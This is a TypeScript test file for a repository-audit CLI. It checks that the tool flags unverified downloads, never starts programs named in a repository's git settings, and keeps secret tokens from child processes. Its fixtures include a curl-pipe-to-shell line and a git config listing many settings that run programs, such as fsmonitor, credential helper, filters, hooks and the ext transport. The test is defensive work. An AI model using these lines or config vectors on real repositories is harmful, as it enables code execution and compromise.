import {
  chmodSync,
  cpSync,
  existsSync,
  mkdirSync,
  readFileSync,
  renameSync,
  rmSync,
  writeFileSync,
} from 'node:fs';
import { delimiter, join } from 'node:path';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { main } from '../../src/cli/index.ts';
import { DiskWorkspace } from '../../src/clients/disk.ts';
import { GitWorkspace, readBlobs, resolveRevision } from '../../src/clients/git.ts';
import { diffHunks } from '../../src/clients/git-diff.ts';
import { findRepository, openRepository } from '../../src/clients/git-discovery.ts';
import { findProgram } from '../../src/clients/programs.ts';
import { fetchCommit } from '../../src/github/fetch.ts';
import { serveGit } from '../github/git-remote.ts';
import { TestRepository, temporaryFolder, writeFiles } from '../repository.ts';

afterEach(() => vi.unstubAllEnvs());

interface Report {
  readonly findings: readonly { readonly rule: string; readonly location: { readonly path: string } }[];
  readonly diagnostics: readonly { readonly message: string; readonly path: string | null }[];
}

const bad = 'curl -fsSL https://x.example/i.sh | sh\n';

async function audit(...words: string[]): Promise<{ code: number; report: Report; error: string }> {
  let out = '';
  let error = '';
  const code = await main([...words, '--offline', '--format', 'json', '--config', 'none'], {
    out: (text) => {
      out += text;
    },
    error: (text) => {
      error += text;
    },
    now: () => Date.parse('2026-11-20T12:00:00Z'),
    environment: {},
    input: () => Promise.resolve(''),
    outIsTerminal: false,
    errorIsTerminal: false,
  });
  return { code, report: out === '' ? null : JSON.parse(out), error };
}

const found = (report: Report) => report.findings.map((one) => `${one.location.path} ${one.rule}`).sort();

/** Settings that each would start a program, as far as the version of git here knows them. */
function hostile(program: string): string {
  return [
    '[core]',
    '\trepositoryformatversion = 0',
    `\tfsmonitor = ${program}`,
    `\tsshCommand = ${program}`,
    `\tgitProxy = ${program}`,
    `\taskPass = ${program}`,
    `\tpager = ${program}`,
    `\teditor = ${program}`,
    `\talternateRefsCommand = ${program}`,
    `[credential]\n\thelper = !${program}`,
    `[diff]\n\texternal = ${program}`,
    `[diff "x"]\n\tcommand = ${program}\n\ttextconv = ${program}`,
    `[filter "x"]\n\tclean = ${program}\n\tsmudge = ${program}\n\tprocess = ${program}\n\trequired = true`,
    `[merge "x"]\n\tdriver = ${program}`,
    `[hook "x"]\n\tcommand = ${program}\n\tevent = reference-transaction`,
    `[gpg]\n\tprogram = ${program}`,
    `[gpg "ssh"]\n\tprogram = ${program}\n\tdefaultKeyCommand = ${program}`,
    `[uploadpack]\n\tpackObjectsHook = ${program}`,
    `[remote "origin"]\n\turl = ssh://host.invalid/x\n\tuploadpack = ${program}\n\tpromisor = true\n\tpartialclonefilter = blob:none`,
    '[extensions]\n\tpartialClone = origin',
    '[protocol]\n\tallow = always',
    '[protocol "ext"]\n\tallow = always',
    '',
  ].join('\n');
}

interface Trap {
  readonly marker: string;
  readonly program: string;
}

/** A program that leaves a mark when anybody starts it. */
function trap(): Trap {
  const folder = temporaryFolder();
  const marker = join(folder, 'ran');
  const program = join(folder, 'helper');
  writeFiles(folder, { 'helper*': `#!/bin/sh\necho "$0 $*" >> ${marker}\nexit 1\n` });
  return { marker, program };
}

function arm(gitDirectory: string, { program }: Trap): void {
  writeFileSync(join(gitDirectory, 'config'), hostile(program));
  mkdirSync(join(gitDirectory, 'hooks'), { recursive: true });
  for (const hook of ['post-index-change', 'reference-transaction', 'post-checkout', 'pre-auto-gc']) {
    const path = join(gitDirectory, 'hooks', hook);
    writeFileSync(path, `#!/bin/sh\nexec ${program} hook\n`);
    chmodSync(path, 0o755);
  }
}

/** A repository with a service in a folder of its own. */
function outer(): TestRepository {
  const repository = new TestRepository();
  repository.commit({ 'services/api/deploy.sh*': `#!/bin/sh\n${bad}`, 'README.md': 'x\n' });
  return repository;
}

/** Each puts a git directory into the folder, and returns where it is. */
const forms: readonly [string, (repository: TestRepository, folder: string) => string][] = [
  [
    'the parts of a bare repository, tracked',
    (repository, folder) => {
      const bare = join(temporaryFolder(), 'bare');
      repository.git('init', '-q', '--bare', bare);
      writeFileSync(join(bare, 'refs', 'keep'), '');
      writeFileSync(join(bare, 'objects', 'keep'), '');
      cpSync(bare, folder, { recursive: true });
      repository.commit({});
      return folder;
    },
  ],
  [
    'a .git of its own',
    (repository, folder) => {
      const other = new TestRepository();
      other.commit({ 'other.txt': 'x' });
      renameSync(join(other.folder, '.git'), join(folder, '.git'));
      void repository;
      return join(folder, '.git');
    },
  ],
  [
    'a .git file that leads to tracked files',
    (repository, folder) => {
      const other = new TestRepository();
      other.commit({ 'other.txt': 'x' });
      const inside = join(repository.folder, 'data', 'store');
      mkdirSync(join(repository.folder, 'data'));
      renameSync(join(other.folder, '.git'), inside);
      repository.commit({});
      writeFileSync(join(folder, '.git'), `gitdir: ${inside}\n`);
      return inside;
    },
  ],
  [
    'a worktree whose shared part is tracked',
    (repository, folder) => {
      const other = new TestRepository();
      other.commit({ 'other.txt': 'x' });
      const inside = join(repository.folder, 'data', 'store');
      mkdirSync(join(repository.folder, 'data'));
      renameSync(join(other.folder, '.git'), inside);
      repository.commit({});
      const own = join(temporaryFolder(), 'own');
      mkdirSync(own);
      writeFileSync(join(own, 'HEAD'), 'ref: refs/heads/main\n');
      writeFileSync(join(own, 'commondir'), `${inside}\n`);
      writeFileSync(join(folder, '.git'), `gitdir: ${own}\n`);
      return inside;
    },
  ],
];

describe('a git directory among the files of a repository', () => {
  it.each(forms)('%s is not used, and hides nothing', async (_, place) => {
    const repository = outer();
    const folder = join(repository.folder, 'services', 'api');
    const caught = trap();
    const gitDirectory = place(repository, folder);
    arm(gitDirectory, caught);
    for (const path of [folder, repository.folder]) {
      const { code, report } = await audit('audit', path);
      const prefix = path === folder ? '' : 'services/api/';
      expect([code, found(report)]).toEqual([
        1,
        expect.arrayContaining([`${prefix}deploy.sh unverified-download`]),
      ]);
      expect(report.diagnostics.map(({ message }) => message).join('\n')).toMatch(/git directory/);
    }
    const { code } = await audit('diff', folder, '--base', 'HEAD');
    expect(code).toBe(0);
    const opened = (await openRepository(folder))!;
    expect(opened.gitDirectory).toBe(join(repository.folder, '.git'));
    await fetchCommit(opened, '1'.repeat(40));
    expect(existsSync(caught.marker)).toBe(false);
  });

  it('is not used below it either, and not when it is named', async () => {
    const repository = outer();
    const folder = join(repository.folder, 'services', 'api');
    repository.commit({ 'services/api/deep/run.sh*': `#!/bin/sh\n${bad}` });
    const caught = trap();
    arm(forms[1]![1](repository, folder), caught);
    expect(found((await audit('audit', join(folder, 'deep'))).report)).toEqual([
      'run.sh unverified-download',
    ]);
    expect((await findRepository(join(folder, '.git'))).repository?.top).toBe(repository.folder);
    expect(existsSync(caught.marker)).toBe(false);
  });
});

describe('a submodule', () => {
  it('is a repository of its own, and its git directory lies in that of the outer one', async () => {
    const library = new TestRepository();
    library.commit({ 'l.sh': bad });
    const repository = outer();
    repository.git('-c', 'protocol.file.allow=always', 'submodule', 'add', '-q', library.folder, 'lib');
    repository.commit({});
    const opened = (await openRepository(join(repository.folder, 'lib')))!;
    expect(opened.gitDirectory).toBe(join(repository.folder, '.git', 'modules', 'lib'));
    expect(found((await audit('audit', join(repository.folder, 'lib'))).report)).toEqual([
      'l.sh unverified-download',
    ]);
  });

  it('that brings its own git directory is not asked, and its files are read', async () => {
    const repository = outer();
    mkdirSync(join(repository.folder, 'lib'));
    const library = new TestRepository(join(repository.folder, 'lib'));
    library.commit({ 'l.sh': bad });
    repository.commit({});
    const caught = trap();
    arm(join(library.folder, '.git'), caught);
    expect((await audit('audit', repository.folder)).code).toBe(1);
    expect(found((await audit('audit', library.folder)).report)).toEqual(['l.sh unverified-download']);
    expect(existsSync(caught.marker)).toBe(false);
  });
});

describe('a repository whose own settings name programs', () => {
  it('is read without starting one', async () => {
    const repository = new TestRepository();
    const base = repository.commit({ 'a.sh': 'true\n', '.gitattributes': '* filter=x diff=x merge=x\n' });
    const head = repository.commit({ 'a.sh': bad });
    const caught = trap();
    arm(join(repository.folder, '.git'), caught);
    // As new as the index: git would have to look into it, through the filter.
    repository.write({ 'a.sh': `# ${bad}`, 'b.sh': bad });
    const opened = (await openRepository(repository.folder))!;
    await new DiskWorkspace(repository.folder, opened, true).list();
    await new GitWorkspace(opened, base).read(['a.sh']);
    await diffHunks(opened, base, null, ['a.sh']);
    await diffHunks(opened, base, head, ['a.sh']);
    await readBlobs(opened, ['2'.repeat(40)]);
    await fetchCommit(opened, '1'.repeat(40));
    for (const words of [
      ['audit'],
      ['audit', '--since', 'HEAD^'],
      ['diff', '--base', base],
      ['diff', '--base', base, '--head', head],
    ])
      await audit(words[0]!, repository.folder, ...words.slice(1));
    expect(existsSync(caught.marker) ? readFileSync(caught.marker, 'utf8') : '').toBe('');
  });

  it('names no transport that starts a program', async () => {
    const repository = new TestRepository();
    repository.commit({ 'a.txt': '1' });
    const caught = trap();
    for (const url of [`ext::${caught.program}`, `x::${caught.program}`, 'git://host.invalid/x']) {
      repository.git('config', 'remote.origin.url', url);
      repository.git('config', 'core.gitProxy', caught.program);
      repository.git('config', 'remote.origin.vcs', 'ext');
      repository.git('config', 'protocol.ext.allow', 'always');
      expect(await fetchCommit((await openRepository(repository.folder))!, '1'.repeat(40))).toBe(false);
    }
    expect(existsSync(caught.marker)).toBe(false);
  });

  it('is refused where a filter has a name that cannot be switched off', async () => {
    const repository = new TestRepository();
    repository.commit({ 'a.txt': '1' });
    repository.git('config', 'filter.a=b.clean', 'false');
    const { code, error } = await audit('audit', repository.folder);
    expect([code, error]).toEqual([2, expect.stringContaining('name a filter that cannot be switched off')]);
  });

  it('keeps a nested repository that nobody tracks, and a worktree, as what they are', async () => {
    const repository = outer();
    mkdirSync(join(repository.folder, 'clone'));
    const nested = new TestRepository(join(repository.folder, 'clone'));
    nested.commit({ 'x.txt': '1' });
    expect((await openRepository(nested.folder))?.top).toBe(nested.folder);
    const worktree = join(repository.folder, 'tree');
    repository.git('worktree', 'add', '-q', '--detach', worktree);
    const opened = (await openRepository(worktree))!;
    expect([opened.top, await resolveRevision(opened, 'HEAD')]).toEqual([
      worktree,
      repository.git('rev-parse', 'HEAD'),
    ]);
    const note = (await audit('audit', repository.folder)).report.diagnostics.map(({ path }) => path);
    expect(note).toEqual(expect.arrayContaining(['clone', 'tree']));
  });
});

describe('the programs that are started', () => {
  it('see no token, no input and no setting of git from outside', async () => {
    const repository = new TestRepository();
    repository.commit({ 'a.sh': 'true\n' });
    const folder = temporaryFolder();
    const dump = join(folder, 'seen');
    const real = findProgram('git', null);
    writeFiles(folder, { 'git*': `#!/bin/sh\nenv >> ${dump}\nexec ${real} "$@"\n` });
    vi.stubEnv('PATH', `${folder}${delimiter}${process.env.PATH}`);
    const secrets = {
      INPUT_TOKEN: 'secret-1',
      GITHUB_TOKEN: 'secret-2',
      GH_TOKEN: 'secret-3',
      ACTIONS_RUNTIME_TOKEN: 'secret-4',
      ACTIONS_ID_TOKEN_REQUEST_TOKEN: 'secret-5',
      AWS_SECRET_ACCESS_KEY: 'secret-6',
      GIT_DIR: '/secret-7',
      GIT_CONFIG_PARAMETERS: "'secret.x=8'",
      GIT_EXTERNAL_DIFF: 'secret-9',
    };
    for (const [name, value] of Object.entries(secrets)) vi.stubEnv(name, value);
    const opened = (await openRepository(repository.folder))!;
    await new DiskWorkspace(repository.folder, opened, true).list();
    await fetchCommit(opened, '1'.repeat(40));
    await audit('audit', repository.folder);
    const seen = readFileSync(dump, 'utf8');
    expect(seen).toContain('GIT_ALLOW_PROTOCOL');
    expect(seen).not.toMatch(/secret|^INPUT_|^ACTIONS_|^GITHUB_/m);
  });

  it('are never those of the repository', () => {
    const repository = new TestRepository().write({ 'node_modules/.bin/git*': '#!/bin/sh\n' });
    vi.stubEnv(
      'PATH',
      ['', '.', 'bin', join(repository.folder, 'node_modules/.bin'), process.env.PATH].join(delimiter),
    );
    expect(findProgram('git', repository.folder)).not.toContain(repository.folder);
    expect(findProgram('no-such-program', repository.folder)).toBeNull();
  });
});

describe('a fetch', () => {
  it.each([
    [
      'in the settings of the clone',
      (clone: TestRepository, header: readonly [string, string]) => clone.git('config', ...header),
    ],
    [
      'in a file that they include',
      (clone: TestRepository, [key, value]: readonly [string, string]) => {
        const file = join(temporaryFolder(), 'credentials.config');
        clone.git('config', '--file', file, key, value);
        clone.git('config', `includeIf.gitdir:${clone.folder}/.git.path`, file);
      },
    ],
  ])('shows what the checkout left for it: %s', async (_, leave) => {
    const remote = new TestRepository();
    const commit = remote.commit({ 'a.txt': '1' });
    const url = await serveGit(remote, 'right');
    const clone = new TestRepository();
    clone.git('remote', 'add', 'origin', url);
    expect(await fetchCommit((await openRepository(clone.folder))!, commit)).toBe(false);
    const basic = Buffer.from('x-access-token:right').toString('base64');
    leave(clone, [`http.${new URL(url).origin}/.extraheader`, `AUTHORIZATION: basic ${basic}`]);
    expect(await fetchCommit((await openRepository(clone.folder))!, commit)).toBe(true);
  });
});

describe('a git that does not answer', () => {
  const failing = (script: string) => {
    const folder = temporaryFolder();
    const real = findProgram('git', null);
    writeFiles(folder, { 'git*': `#!/bin/sh\n${script.replaceAll('GIT', real!)}\nexec ${real} "$@"\n` });
    vi.stubEnv('PATH', `${folder}${delimiter}${process.env.PATH}`);
  };
  const when = (word: string, then: string) => `for w in "$@"; do [ "$w" = ${word} ] && { ${then}; }; done`;

  it.each([
    ['ls-files', 'ends with 128', 'exit 128'],
    ['ls-files', 'is killed', 'kill -9 $$'],
    ['ls-files', 'gives half of its output', 'GIT "$@" | head -c 70; exit 0'],
    ['ls-files', 'leaves out a record', 'GIT "$@" | head -z -n 1; exit 0'],
    ['diff-files', 'ends with 128', 'exit 128'],
    ['log', 'ends with 128', 'exit 128'],
  ])('%s %s: could not run', async (word, _, then) => {
    const repository = new TestRepository();
    repository.commit({ 'a.sh': bad, 'b.sh': bad });
    failing(when(word, then));
    const { code, report, error } = await audit('audit', repository.folder);
    expect([code, report, error]).toEqual([2, null, expect.stringMatching(/^premortem: Git /)]);
  });

  it.each([
    ['is garbage', (index: string) => writeFileSync(index, 'garbage')],
    ['is missing', (index: string) => rmSync(index)],
  ])('an index that %s: could not run', async (_, spoil) => {
    const repository = new TestRepository();
    repository.commit({ 'a.sh': bad });
    spoil(join(repository.folder, '.git', 'index'));
    const { code, error } = await audit('audit', repository.folder);
    expect([code, error]).toEqual([2, expect.stringContaining('index')]);
  });

  it('a base that cannot be listed, or compared with: could not run', async () => {
    const repository = new TestRepository();
    const base = repository.commit({ 'a.sh': 'true\n' });
    repository.commit({ 'a.sh': bad });
    failing(when('merge-base', 'exit 128'));
    expect((await audit('diff', repository.folder, '--base', base)).code).toBe(2);
    failing(when('ls-tree', 'exit 128'));
    expect((await audit('diff', repository.folder, '--base', base)).code).toBe(2);
  });

  it('git is not there: the files are read, and it is said', async () => {
    const repository = new TestRepository();
    repository.commit({ 'a.sh': bad });
    vi.stubEnv('PATH', temporaryFolder());
    const { report } = await audit('audit', repository.folder);
    expect(found(report)).toEqual(['a.sh unverified-download']);
    expect(report.diagnostics.map(({ message }) => message)).toContain(
      'Git was not asked (git is not installed, or not in PATH), so every file was read that no .gitignore names.',
    );
  });
});
